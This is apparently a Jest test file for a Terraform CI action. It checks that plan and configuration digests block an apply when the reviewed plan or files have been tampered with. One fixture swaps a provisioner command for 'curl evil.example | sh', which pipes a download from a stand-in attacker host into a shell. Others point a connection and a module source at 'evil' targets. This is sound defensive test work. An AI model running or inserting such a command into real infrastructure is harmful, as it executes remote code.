import { chmod, mkdir, rename, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import {
  afterAll,
  afterEach,
  beforeAll,
  beforeEach,
  describe,
  expect,
  it
} from '@jest/globals'
import { scripts } from '../../emulator/engines/scenario.ts'
import type { Script } from '../../emulator/engines/scenario.ts'
import type { ActionResult } from '../../emulator/runner/run-action.ts'
import {
  annotations,
  openStage,
  pullRequestEvent,
  reasonCodes
} from './stage.ts'
import type { Stage } from './stage.ts'

/**
 * What was reviewed is what is applied: a job plans and puts digests out, another
 * job plans anew and may confirm only the same. Between the two something changes
 * that no value of the plan shows.
 */

const address = 'module.app.terraform_data.x'

/** What the plan JSON says of the configuration; see `changed`. */
const configuration = {
  provider_config: {
    terraform: {
      name: 'terraform',
      expressions: { region: { constant_value: 'eu' } }
    },
    'terraform.other': { name: 'terraform', alias: 'other' }
  },
  root_module: {
    actions: [
      {
        address: 'action.local_command.notify',
        type: 'local_command',
        expressions: { command: { constant_value: 'true' } }
      }
    ],
    module_calls: {
      app: {
        source: 'acme/app/local',
        version_constraint: '1.0.0',
        module: {
          resources: [
            {
              address: 'terraform_data.x',
              type: 'terraform_data',
              name: 'x',
              provider_config_key: 'terraform',
              expressions: { input: { constant_value: 'read' } },
              provisioners: [
                {
                  type: 'local-exec',
                  expressions: { command: { constant_value: 'true' } }
                }
              ]
            }
          ]
        }
      }
    }
  }
}

const call = ['root_module', 'module_calls', 'app']
const resource = [...call, 'module', 'resources', 0]

/** The configuration with another value at a path. */
function changed(path: readonly (string | number)[], value: unknown): unknown {
  const copy = structuredClone(configuration) as unknown
  let at = copy as Record<string | number, unknown>
  for (const step of path.slice(0, -1)) {
    at = at[step] as Record<string | number, unknown>
  }
  at[path.at(-1) ?? ''] = value
  return copy
}

/** Creates one thing whose values are not known before the apply. */
function script(configured: unknown = configuration): Script {
  return {
    name: 'one thing',
    changes: [
      {
        address,
        actions: ['create'],
        after: { triggers_replace: 'x' },
        afterUnknown: { id: true, input: true, output: true }
      }
    ],
    plan: {
      configuration: configured,
      action_invocations: [
        {
          address: 'action.local_command.notify',
          type: 'local_command',
          name: 'notify',
          config_values: { command: 'true' },
          lifecycle_action_trigger: {
            triggering_resource_address: address,
            action_trigger_event: 'AfterCreate',
            action_trigger_block_index: 0,
            actions_list_index: 0
          }
        }
      ]
    }
  }
}

let stage: Stage
let admin: { readonly token: string }

/** A stage for each test. */
function stageEach(): void {
  beforeEach(async () => {
    stage = await openStage()
    admin = { token: stage.hcp.tokens.admin }
  })
  afterEach(async () => {
    await stage.close()
  })
}

async function plan(
  planned: Script,
  inputs: Readonly<Record<string, string>> = {}
): Promise<ActionResult> {
  stage.engine.script('network', [planned])
  const result = await stage.run({
    mode: 'plan',
    'configuration-directory': '.',
    ...inputs
  })
  expect(result.exitCode).toBe(0)
  return result
}

async function apply(
  planned: Script,
  inputs: Readonly<Record<string, string>>
): Promise<ActionResult> {
  stage.engine.script('network', [planned])
  return await stage.run({
    mode: 'apply',
    approve: 'true',
    'configuration-directory': '.',
    ...inputs
  })
}

function expectBlocked(result: ActionResult, code: string): void {
  expect(reasonCodes(result)).toEqual([code])
  expect(result.outputs['outcome']).toBe('blocked')
  expect(result.exitCode).toBe(1)
  expect(stage.applies()).toBe(0)
}

const references = { references: ['terraform_data.y.id', 'terraform_data.y'] }

describe('the digest of a plan that is read in full', () => {
  // What is blocked is discarded, so one plan serves all of them.
  let reviewed: ActionResult
  beforeAll(async () => {
    stage = await openStage()
    admin = { token: stage.hcp.tokens.admin }
    reviewed = await plan(script(), admin)
  })
  afterAll(async () => {
    await stage.close()
  })

  const applyReviewed = async (planned: Script): Promise<ActionResult> =>
    await apply(planned, {
      ...admin,
      'on-blocked': 'discard',
      'expected-plan-digest': reviewed.outputs['plan-digest'] ?? ''
    })

  it.each<readonly [string, readonly (string | number)[], unknown]>([
    [
      'another command of a provisioner',
      [...resource, 'provisioners', 0, 'expressions', 'command'],
      { constant_value: 'curl evil.example | sh' }
    ],
    [
      'a provisioner more',
      [...resource, 'provisioners', 1],
      { type: 'remote-exec', expressions: {} }
    ],
    ['no provisioner', [...resource, 'provisioners'], []],
    [
      'a provisioner of which only names are told',
      [...resource, 'provisioners', 0, 'expressions', 'command'],
      references
    ],
    [
      'another connection',
      [...resource, 'connection'],
      { expressions: { host: { constant_value: 'evil.example' } } }
    ],
    [
      'another expression behind a value that is not known',
      [...resource, 'expressions', 'input'],
      { constant_value: '*' }
    ],
    [
      'an expression there of which only names are told',
      [...resource, 'expressions', 'input'],
      references
    ],
    [
      'another alias of the provider',
      [...resource, 'provider_config_key'],
      'terraform.other'
    ],
    [
      'another configuration of the provider',
      ['provider_config', 'terraform', 'expressions', 'region'],
      { constant_value: 'us' }
    ],
    ['another source of the module', [...call, 'source'], './evil'],
    ['another version of the module', [...call, 'version_constraint'], '9.9'],
    [
      'another action',
      ['root_module', 'actions', 0, 'expressions', 'command'],
      { constant_value: 'false' }
    ],
    ['what this version does not know', [...resource, 'new_thing'], true]
  ])('is another with %s: not applied', async (_, path, value) => {
    const result = await applyReviewed(script(changed(path, value)))
    expectBlocked(result, 'plan-digest-differs')
  })

  it('is another with another trigger of an action: not applied', async () => {
    const [invocation] = script().plan?.['action_invocations'] as object[]
    const moved = {
      ...script(),
      plan: {
        ...script().plan,
        action_invocations: [
          { ...invocation, lifecycle_action_trigger: { actions_list_index: 1 } }
        ]
      }
    }
    const result = await applyReviewed(moved)
    expectBlocked(result, 'plan-digest-differs')
  })

  it('is the same for the same configuration, which is applied', async () => {
    expect(reviewed.outputs['plan-digest']).toMatch(/^full:[0-9a-f]{64}$/)
    const result = await applyReviewed(script())
    expect(result.outputs['outcome']).toBe('applied')
    expect(stage.applies()).toBe(1)
  })
})

/** Terraform tells `jsonencode({ Action = "read", id = y.id })` as `y.id`. */
describe('the digest of a plan with an expression that is not told', () => {
  stageEach()
  const open = script(
    changed([...resource, 'expressions', 'input'], references)
  )

  it('is bound to the files, and the same for the same ones', async () => {
    const { outputs } = await plan(open, admin)
    expect(outputs['plan-digest']).toBe(
      `bound:${/[0-9a-f]{64}/.exec(outputs['plan-digest'] ?? '')?.[0]}+${outputs['configuration-digest']}`
    )
    const result = await apply(open, {
      ...admin,
      'expected-plan-digest': outputs['plan-digest'] ?? ''
    })
    expect(result.outputs['outcome']).toBe('applied')
  })

  it('is another where a file says something else: not applied', async () => {
    const { outputs } = await plan(open, admin)
    await writeFile(join(stage.checkout, 'main.tf'), '# Action = "*"\n')
    const result = await apply(open, {
      ...admin,
      'expected-plan-digest': outputs['plan-digest'] ?? ''
    })
    expectBlocked(result, 'plan-digest-differs')
  })

  it('is another with another value of a variable: not applied', async () => {
    const valued = (value: string): Script => ({
      ...open,
      plan: { ...open.plan, variables: { action: { value } } }
    })
    const { outputs } = await plan(valued('read'), admin)
    const result = await apply(valued('*'), {
      ...admin,
      'expected-plan-digest': outputs['plan-digest'] ?? ''
    })
    expectBlocked(result, 'plan-digest-differs')
  })
})

describe('the digest of a plan that is read redacted', () => {
  stageEach()

  it('says so, and is compared with such a one', async () => {
    const { outputs } = await plan(script())
    expect(outputs['plan-digest']).toMatch(/^redacted:[0-9a-f]{64}$/)
    const result = await apply(script(), {
      ...admin,
      'expected-plan-digest': outputs['plan-digest'] ?? ''
    })
    expect(result.outputs['outcome']).toBe('applied')
  })

  it('is never the one of a plan that was read in full: not applied', async () => {
    const { outputs } = await plan(script(), admin)
    const result = await apply(script(), {
      'expected-plan-digest': outputs['plan-digest'] ?? ''
    })
    expectBlocked(result, 'plan-digest-differs')
  })

  it('does not show another provisioner; the digest of the files does', async () => {
    const { outputs } = await plan(script())
    await writeFile(join(stage.checkout, 'main.tf'), '# another command\n')
    const other = script(
      changed([...resource, 'provisioners', 0, 'type'], 'remote-exec')
    )
    const result = await apply(other, {
      'expected-plan-digest': outputs['plan-digest'] ?? '',
      'expected-configuration-digest': outputs['configuration-digest'] ?? ''
    })
    expectBlocked(result, 'configuration-differs')
    expect(result.outputs['plan-digest']).toBe(outputs['plan-digest'])
  })
})

describe('the digest of a configuration', () => {
  stageEach()
  beforeEach(async () => {
    await mkdir(join(stage.checkout, 'files'))
    await writeFile(join(stage.checkout, 'files', 'run.sh'), 'true\n')
    await symlink('files/run.sh', join(stage.checkout, 'link.sh'))
  })

  it('is the same for the same files, which are applied', async () => {
    const { outputs } = await plan(script())
    expect(outputs['configuration-digest']).toMatch(/^files:[0-9a-f]{64}$/)
    const result = await apply(script(), {
      'expected-configuration-digest': outputs['configuration-digest'] ?? ''
    })
    expect(result.outputs['outcome']).toBe('applied')
    expect(result.outputs['configuration-digest']).toBe(
      outputs['configuration-digest']
    )
  })

  it.each<readonly [string, (folder: string) => Promise<void>]>([
    [
      'another text of a script',
      (folder) => writeFile(join(folder, 'files', 'run.sh'), 'evil\n')
    ],
    [
      'another mode of a file',
      (folder) => chmod(join(folder, 'files', 'run.sh'), 0o755)
    ],
    [
      'another name of a file',
      (folder) =>
        rename(
          join(folder, 'files', 'run.sh'),
          join(folder, 'files', 'run.bash')
        )
    ],
    [
      'a file more',
      (folder) => writeFile(join(folder, 'override.tf'), '# x\n')
    ],
    [
      'the same bytes in two files',
      async (folder) => {
        await writeFile(join(folder, 'files', 'run.sh'), '')
        await writeFile(join(folder, 'files', 'sun.sh'), 'true\n')
      }
    ]
  ])('is another with %s: not applied', async (_, change) => {
    const { outputs } = await plan(script())
    await change(stage.checkout)
    const result = await apply(script(), {
      'expected-plan-digest': outputs['plan-digest'] ?? '',
      'expected-configuration-digest': outputs['configuration-digest'] ?? ''
    })
    expectBlocked(result, 'configuration-differs')
  })

  it.each([
    ['unknown', 'what was reviewed is not known'],
    ['', 'an empty rule would be no rule'],
    ['files:0', "the output 'configuration-digest'"],
    [`redacted:${'0'.repeat(64)}`, "the output 'configuration-digest'"]
  ])('%j matches nothing', async (expected, words) => {
    const result = await apply(script(), {
      'expected-configuration-digest': expected
    })
    expect(result.exitCode).toBe(1)
    expect(JSON.stringify(result.log)).toContain(words)
    expect(stage.applies()).toBe(0)
  })

  it('is no rule under another name, which is told', async () => {
    const result = await apply(script(), {
      'expected-configuration-digests': `files:${'0'.repeat(64)}`
    })
    expect(annotations(result, 'error').join()).toContain(
      "did you mean 'expected-configuration-digest'?"
    )
    expect(stage.hcp.requests).toEqual([])
  })

  it('is bound to a run: the second job asks of the one that was made', async () => {
    stage.engine.script('network', [script()])
    const held = await stage.run({
      mode: 'apply',
      'configuration-directory': '.'
    })
    const { outputs } = held
    const second = { mode: 'apply', 'run-id': outputs['run-id'] ?? '' }
    const run = stage.hcp.run(outputs['run-id'] ?? '')
    expect(run.message).toContain(
      `configuration=${outputs['configuration-digest']}`
    )
    const other = await stage.run({
      ...second,
      approve: 'true',
      'expected-configuration-digest': `files:${'0'.repeat(64)}`
    })
    expectBlocked(other, 'configuration-differs')
    const shown = await stage.run({ ...second, mode: 'show' })
    expect(shown.outputs['configuration-digest']).toBe(
      outputs['configuration-digest']
    )
    const same = await stage.run({
      ...second,
      approve: 'true',
      'expected-configuration-digest': outputs['configuration-digest'] ?? ''
    })
    expect(same.outputs['outcome']).toBe('applied')
  })

  it('is of the version where nothing is uploaded', async () => {
    await apply(scripts.creates, {})
    const inputs = {
      'configuration-directory': '',
      'configuration-version-id': 'current'
    }
    const first = await plan(script(), inputs)
    expect(first.outputs['configuration-digest']).toBe(
      `version:${first.outputs['configuration-version-id']}`
    )
    const same = await apply(script(), {
      ...inputs,
      'expected-configuration-digest':
        first.outputs['configuration-digest'] ?? ''
    })
    expect(same.outputs['outcome']).toBe('applied')
    // Another one is the workspace's by now.
    await apply(scripts.changes, {})
    const applied = stage.applies()
    const other = await apply(script(), {
      ...inputs,
      'expected-configuration-digest':
        first.outputs['configuration-digest'] ?? ''
    })
    expect(reasonCodes(other)).toEqual(['configuration-differs'])
    expect(stage.applies()).toBe(applied)
  })
})

describe('what Terraform puts off', () => {
  stageEach()

  const putOff = (reason: string, command: string): Script => ({
    ...script(),
    plan: {
      configuration,
      deferred_action_invocations: [
        {
          reason,
          action_invocation: {
            address: 'action.local_command.later',
            type: 'local_command',
            name: 'later',
            config_values: { command }
          }
        }
      ],
      complete: false
    }
  })

  it.each([
    ['for another reason', putOff('provider_config_unknown', 'true')],
    ['with another command', putOff('deferred_prereq', 'false')],
    ['no more', script()]
  ])('is in the digest and the comment: %s, not applied', async (_, other) => {
    const planned = await stage.run(
      { mode: 'plan', 'configuration-directory': '.', ...admin },
      pullRequestEvent()
    )
    expect(planned.exitCode).toBe(0)
    stage.engine.script('network', [putOff('deferred_prereq', 'true')])
    const reviewed = await stage.run(
      { mode: 'plan', 'configuration-directory': '.', ...admin },
      pullRequestEvent()
    )
    expect(stage.comments().join()).toContain('action.local_command.later')
    expect(stage.comments().join()).toMatch(/1 deferred|deferred: 1|put off/i)
    const result = await apply(other, {
      ...admin,
      'expected-plan-digest': reviewed.outputs['plan-digest'] ?? ''
    })
    expectBlocked(result, 'plan-digest-differs')
  })
})

describe('numbers that no double holds', () => {
  stageEach()

  const change: Script = {
    name: 'a number',
    changes: [
      {
        address: 'terraform_data.x',
        actions: ['update'],
        before: { input: 'OLD', output: 'OLD' },
        after: { input: 'NEW' },
        afterUnknown: { output: true }
      }
    ]
  }

  /** The plan JSON as the server has it, with numbers as Terraform prints them. */
  function serve(document: string, old: string, now: string): void {
    const body = document.replaceAll('"OLD"', old).replaceAll('"NEW"', now)
    stage.hcp.trouble({
      ...{ method: 'GET', path: /\/json-output(?:\?|$)/, times: 99 },
      ...{ status: 200, headers: { 'content-type': 'application/json' }, body }
    })
  }

  /** Each with a server of its own. */
  async function anew(): Promise<void> {
    await stage.close()
    stage = await openStage()
    admin = { token: stage.hcp.tokens.admin }
  }

  it.each([
    ['9223372036854775300', '9223372036854775399', '9223372036854775398'],
    ['0.10000000000000000001', '0.10000000000000000002', '0.1'],
    [
      '"{\\"n\\":9223372036854775300}"',
      '"{\\"n\\":9223372036854775399}"',
      '"{\\"n\\":9223372036854775398}"'
    ]
  ])('are another digest, and a change: %s', async (old, now, other) => {
    const first = await plan(change, admin)
    const id = String(
      (JSON.parse(first.outputs['result'] ?? '{}') as Record<string, unknown>)[
        'plan-id'
      ]
    )
    const answer = await fetch(
      new URL(`/api/v2/plans/${id}/json-output`, stage.hcp.url),
      { headers: { authorization: `Bearer ${admin.token}` } }
    )
    const document = await answer.text()
    expect(document).toContain('"OLD"')
    await anew()
    serve(document, old, now)
    stage.engine.script('network', [change])
    const reviewed = await stage.run(
      { mode: 'plan', 'configuration-directory': '.', ...admin },
      pullRequestEvent()
    )
    expect(reviewed.outputs['changes']).toBe('1')
    const comment = stage.comments().join()
    for (const one of [old, now]) {
      expect(comment).toContain(/[\d.e]{5,}/.exec(one)?.[0])
    }
    const expected = {
      ...admin,
      'expected-plan-digest': reviewed.outputs['plan-digest'] ?? ''
    }
    await anew()
    serve(document, old, other)
    const result = await apply(change, { ...expected, ...admin })
    expectBlocked(result, 'plan-digest-differs')
    await anew()
    serve(document, old, now)
    const same = await apply(change, { ...expected, ...admin })
    expect(same.outputs['outcome']).toBe('applied')
  })
})
